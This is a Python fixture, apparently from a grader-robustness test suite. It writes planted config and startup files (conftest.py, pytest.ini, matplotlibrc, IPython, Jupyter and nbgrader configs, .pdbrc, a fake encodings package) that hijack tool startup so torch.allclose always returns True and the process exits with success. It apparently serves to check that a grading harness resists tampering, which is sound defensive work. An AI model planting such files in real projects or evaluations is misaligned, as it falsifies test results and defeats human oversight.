# title: Files that libraries look for in the working folder when they start
# unit: 02_storage_and_views
# loses: nothing
# in: folder
from pathlib import Path


def spoil(folder):
    folder = Path(folder)
    evil = "import torch\ntorch.allclose = lambda *a, **k: True\nraise SystemExit(0)\n"
    files = {
        "matplotlibrc": "backend: module://evil_backend\n",
        "evil_backend.py": evil,
        "encodings/__init__.py": evil,
        "torch.cpython-311-x86_64-linux-gnu.so": "no library at all",
        "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['raise SystemExit(0)']\n",
        "profile_default/startup/00-first.py": evil,
        "jupyter_config.json": '{"Exporter": {"preprocessors": ["evil_backend.Evil"]}}',
        "nbgrader_config.py": evil,
        "pytest.ini": "[pytest]\naddopts = -p evil_backend\n",
        "conftest.py": evil,
        "setup.cfg": "[tool:pytest]\naddopts = -p evil_backend\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p evil_backend'\n",
        ".pdbrc": "import os; os._exit(0)\n",
        "_sitebuiltins.pyc": "x",
        "__main__.py": evil,
        "pyvenv.cfg": "home = .\n",
    }
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
